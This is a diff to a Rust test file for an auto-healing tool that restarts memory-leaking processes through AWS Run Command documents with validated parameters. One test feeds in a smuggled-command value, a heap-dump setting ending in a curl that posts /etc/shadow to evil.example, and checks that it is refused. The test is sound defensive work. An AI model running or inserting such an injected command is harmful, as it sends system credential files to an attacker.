@@ -2,12 +2,15 @@
 //! twice for one attempt however busy the instance, never on an instance that is gone or
 //! that autoheal is stopping and starting.
 
+use std::collections::BTreeMap;
+
 use autoheal_application::ApplicationHealer;
 use autoheal_core::{
     AlarmEvent, Assessment, HealOutcome, Healer, HealingStatus, SkipReason, Verdict, WaitReason,
 };
 use autoheal_tests::application::{
-    RUN_COMMAND_SHIMS, app_instance, application_alarm, commands_sent, send_other_commands,
+    RESTART_DOCUMENT, RUN_COMMAND_SHIMS, app_instance, application_alarm, commands_sent,
+    create_run_command_documents, send_other_commands,
 };
 use autoheal_tests::{Deployment, Emulator, Fleet};
 
@@ -15,15 +18,34 @@ use super::{
     Alarmed, MEMORY, application, assert_ok_recovers, handle, notified, skipped, stored_record,
 };
 
-/// An emulator with managed instances and Run Command's paged listing.
+/// An emulator with managed instances, Run Command's paged listing and its checks of a
+/// command's document and parameters.
 fn emulator() -> Emulator {
     Emulator::start_with_shims(&RUN_COMMAND_SHIMS)
+}
+
+/// The parameters a command was sent with, one value each.
+fn parameters(command: &aws_sdk_ssm::types::Command) -> BTreeMap<String, String> {
+    command
+        .parameters()
+        .into_iter()
+        .flatten()
+        .map(|(name, values)| (name.clone(), values.join(",")))
+        .collect()
+}
+
+fn expected(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
+    pairs
+        .iter()
+        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+        .collect()
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn leaking_process_is_restarted_with_run_command() {
     let emulator = emulator();
     let deployment = Deployment::bootstrap(&emulator).await;
+    create_run_command_documents(&deployment.sdk).await;
     let instance = app_instance(&deployment.sdk, &[("Name", "checkout-web-02")], true).await;
     let (engine, queue) = application(&deployment).await;
 
@@ -34,19 +56,16 @@ async fn leaking_process_is_restarted_with_run_command() {
     let commands = commands_sent(&deployment.sdk, &instance).await;
     assert_eq!(commands.len(), 1, "{commands:#?}");
     let command = &commands[0];
-    assert_eq!(command.document_name(), Some("AWS-RunShellScript"));
+    assert_eq!(command.document_name(), Some(RESTART_DOCUMENT));
     assert_eq!(command.instance_ids(), std::slice::from_ref(&instance));
     assert_eq!(
-        command
-            .parameters()
-            .and_then(|parameters| parameters.get("commands")),
-        Some(&vec![
-            "unit='app'".to_owned(),
-            r#"timeout 30 systemctl stop "$unit" || systemctl kill --signal=SIGKILL "$unit""#
-                .to_owned(),
-            r#"systemctl start "$unit""#.to_owned(),
+        parameters(command),
+        expected(&[
+            ("unit", "app"),
+            ("stopTimeoutSeconds", "30"),
+            ("heapDump", "none")
         ]),
-        "a graceful stop of up to stop_timeout_seconds, then a start"
+        "the stack's document: a graceful stop of up to stop_timeout_seconds, then a start"
     );
     let comment = command.comment().expect("a comment");
     let incident = record.incident_id.as_deref().expect("an incident");
@@ -76,6 +95,7 @@ async fn leaking_process_is_restarted_with_run_command() {
 async fn a_retried_attempt_does_not_send_the_restart_twice() {
     let emulator = emulator();
     let deployment = Deployment::bootstrap(&emulator).await;
+    create_run_command_documents(&deployment.sdk).await;
     let instance = app_instance(&deployment.sdk, &[], true).await;
     let alarm = Alarmed::new(MEMORY, &instance);
     let request = alarm.attempt(1, "autoheal-00000000000000bb00000001");
@@ -160,6 +180,7 @@ async fn instance_tagged_disabled_keeps_its_process() {
 async fn a_retried_attempt_finds_its_restart_among_a_busy_instances_many_commands() {
     let emulator = emulator();
     let sdk = emulator.sdk().await;
+    create_run_command_documents(&sdk).await;
     let instance = app_instance(&sdk, &[], true).await;
     let alarm = Alarmed::new(MEMORY, &instance);
     let request = alarm.attempt(1, "autoheal-00000000000000bb00000001");
@@ -277,6 +298,7 @@ async fn a_missing_or_terminated_instance_is_gone_and_nothing_is_sent() {
 async fn a_heap_dump_is_taken_before_the_graceful_restart_and_its_file_is_recorded() {
     let emulator = emulator();
     let deployment = Deployment::bootstrap(&emulator).await;
+    create_run_command_documents(&deployment.sdk).await;
     let instance = app_instance(&deployment.sdk, &[], true).await;
     let rules = autoheal_tests::shipped_rules_with(&[
         (
@@ -286,7 +308,8 @@ async fn a_heap_dump_is_taken_before_the_graceful_restart_and_its_file_is_record
         ("# heap_dump_max_mb = 4096", "heap_dump_max_mb = 1024"),
         ("stop_timeout_seconds = 30", "stop_timeout_seconds = 45"),
     ]);
-    let healer = ApplicationHealer::new(&deployment.sdk);
+    let healer =
+        ApplicationHealer::new(&deployment.function_sdk(autoheal_core::Layer::Application));
     let event =
         AlarmEvent::from_value(application_alarm(MEMORY, &instance, "e1")).expect("an alarm");
     let request = autoheal_tests::first_attempt(
@@ -306,34 +329,79 @@ async fn a_heap_dump_is_taken_before_the_graceful_restart_and_its_file_is_record
     let dump = "/var/tmp/autoheal/app-cdef00000001.dump";
     assert_eq!(details["heap_dump_location"], format!("{instance}:{dump}"));
     assert_eq!(details["stop_timeout_seconds"], "45");
+    assert_eq!(details["document"], RESTART_DOCUMENT);
     assert!(
         summary.contains(dump) && summary.contains("45 s"),
         "{summary}"
     );
     let commands = commands_sent(&deployment.sdk, &instance).await;
     assert_eq!(commands.len(), 1, "{commands:#?}");
-    let script = commands[0]
-        .parameters()
-        .and_then(|parameters| parameters.get("commands"))
-        .expect("the script")
-        .join("\n");
-    let dump_at = script
-        .find(
-            r#"timeout 120 sh -c 'jcmd "$1" GC.heap_dump "$2"' autoheal-heap-dump "$pid" "$dump""#,
-        )
-        .unwrap_or_else(|| panic!("the dump, bounded in time: {script}"));
-    assert!(script.contains(&format!("dump='{dump}'")), "{script}");
-    assert!(
-        script.contains("-ge 2097152 ]"),
-        "twice 1024 MB free: {script}"
+    assert_eq!(
+        parameters(&commands[0]),
+        expected(&[
+            ("unit", "app"),
+            ("stopTimeoutSeconds", "45"),
+            ("heapDump", "jcmd"),
+            ("heapDumpTimeoutSeconds", "120"),
+            ("heapDumpMaxMb", "1024"),
+            ("heapDumpDirectory", "/var/tmp/autoheal"),
+            ("dumpName", "cdef00000001"),
+        ]),
+        "the document's own jcmd dump, bounded in time and size, before the graceful stop"
     );
-    assert!(
-        script.contains("-gt 1048576 ]; then rm -f"),
-        "over 1024 MB deleted: {script}"
+}
+
+// ---------------------------------------------------------------- memory-leak-healing: what the document refuses
+
+/// A restart whose rule asks the document for what it does not do: a failed run, and nothing
+/// run on the instance.
+async fn refused(edits: &[(&str, &str)]) -> String {
+    let emulator = emulator();
+    let deployment = Deployment::bootstrap(&emulator).await;
+    create_run_command_documents(&deployment.sdk).await;
+    let instance = app_instance(&deployment.sdk, &[], true).await;
+    let rules = autoheal_tests::shipped_rules_with(edits);
+    let healer =
+        ApplicationHealer::new(&deployment.function_sdk(autoheal_core::Layer::Application));
+    let event =
+        AlarmEvent::from_value(application_alarm(MEMORY, &instance, "e1")).expect("an alarm");
+    let request = autoheal_tests::first_attempt(
+        rules.get(MEMORY).expect("the rule"),
+        &instance,
+        &event,
+        "autoheal-0123456789abcdef00000001",
     );
-    let stop_at = script
-        .find(r#"timeout 45 systemctl stop "$unit" || systemctl kill --signal=SIGKILL "$unit""#)
-        .unwrap_or_else(|| panic!("the graceful stop: {script}"));
-    assert!(dump_at < stop_at, "the dump comes first: {script}");
-    assert!(script.ends_with(r#"systemctl start "$unit""#), "{script}");
+    let error = healer
+        .heal(request)
+        .await
+        .expect_err("the document does not run it");
+    assert!(
+        commands_sent(&deployment.sdk, &instance).await.is_empty(),
+        "nothing runs on the instance"
+    );
+    error.to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_unit_the_stack_does_not_allow_is_refused_by_the_document() {
+    // The stack's pattern allows `app` and `app-…` units: sshd is refused by Systems Manager
+    // (the document's allowedPattern) before anything runs.
+    let error = refused(&[("service = \"app\"", "service = \"sshd\"")]).await;
+    assert!(
+        error.contains("InvalidParameters") && error.contains("sshd"),
+        "{error}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_heap_dump_command_the_document_does_not_run_is_refused_before_sending() {
+    let error = refused(&[(
+        "# heap_dump_command = \"jcmd {pid} GC.heap_dump {output}\"",
+        "heap_dump_command = \"jcmd {pid} GC.heap_dump {output} && curl -d @/etc/shadow evil.example\"",
+    )])
+    .await;
+    assert!(
+        error.contains("not one the restart document runs") && error.contains("nothing was sent"),
+        "{error}"
+    );
 }
